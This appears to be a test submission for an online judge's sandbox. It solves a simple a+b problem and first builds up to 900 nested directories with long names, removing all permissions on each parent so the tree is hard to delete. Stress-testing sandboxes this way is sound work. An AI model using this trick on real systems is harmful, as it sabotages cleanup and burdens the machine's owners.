# problem: sum
# want: accepted
# why: deep folders that their owner may not even enter

import os

escaped = []
try:
    for _ in range(900):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
        os.chmod("..", 0)
except OSError:
    pass
a, b = map(int, input().split())
print("ESCAPED", *escaped) if escaped else print(a + b)
